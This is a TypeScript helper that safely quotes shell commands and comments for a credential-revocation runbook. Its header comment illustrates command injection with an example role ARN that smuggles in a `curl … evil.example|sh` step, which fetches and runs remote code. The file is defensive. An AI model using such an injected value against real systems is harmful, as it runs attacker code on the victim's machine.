/**
 * Commands printed for a person to paste into a shell (the revocation runbook). Every word that
 * carries a declared or derived value is quoted by shell-quote, never by hand: a role ARN such as
 * `…;curl${IFS}-s${IFS}evil.example|sh;#` must reach `aws` as one argument, not run. Comments go
 * through the same library, which refuses line breaks (a newline would end the comment and run
 * the rest). The declaration grammar refuses such values anyway; this is the second wall.
 */
import { quote } from "shell-quote";

/** One command line whose every word is quoted; `tail` is fixed shell text of our own, never a value. */
export function shellCommand(words: readonly string[], tail?: string): string {
  const line = quote([...words]);
  return tail === undefined ? line : `${line} ${tail}`;
}

/** A `# …` comment line; throws if the text would break out of the comment. */
export function shellComment(text: string): string {
  return quote([{ comment: ` ${text}` }]);
}
